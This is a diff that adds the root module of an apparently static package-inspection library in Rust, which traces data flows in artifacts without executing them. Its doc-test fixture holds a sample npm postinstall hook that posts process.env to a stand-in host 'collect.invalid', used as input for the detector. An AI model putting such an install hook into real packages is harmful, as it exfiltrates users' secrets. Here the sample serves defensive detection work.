@@ -1,0 +1,46 @@
+//! What the code of an artifact can do.
+//!
+//! Bytes in, values out: no clock, no network, no disk, nothing of a package is run.
+//! Unpacking ([`unpack`]) gives a tree; a [`package`] knows which file means which; each
+//! language is lowered to one form ([`ir`]); the pure machine ([`pure`]) computes what a
+//! program would compute from its own constants; [`flow`] says from where to where data
+//! goes, and when ([`zone`]).
+//!
+//! ```
+//! use customs_inspect::{Content, Entry, Kind, Tree, inspect_tree};
+//! let file = |path: &str, text: &str| Entry {
+//!     path: path.to_owned(),
+//!     content: Content::Whole(text.as_bytes().into()),
+//!     length: text.len() as u64,
+//!     kind: Kind::Text,
+//!     executable: false,
+//! };
+//! let tree = Tree {
+//!     entries: vec![
+//!         file("package/package.json", r#"{"scripts": {"postinstall": "node a.js"}}"#),
+//!         file("package/a.js", "fetch('https://collect.invalid', {body: JSON.stringify(process.env)})"),
+//!     ],
+//!     ..Tree::default()
+//! };
+//! let inspection = inspect_tree(&tree);
+//! assert_eq!(inspection.flows[0].source_name, "process.env");
+//! ```
+
+mod engine;
+mod flow;
+mod ir;
+mod js;
+mod know;
+mod limit;
+mod package;
+mod pure;
+mod python;
+mod rust;
+mod shell;
+mod text;
+mod unpack;
+mod zone;
+
+pub use engine::{ENGINE_VERSION, inspect_archive, inspect_tree};
+pub use limit::Unpacking;
+pub use unpack::{Content, Entry, Kind, Tree, Trick, Unread, unpack};
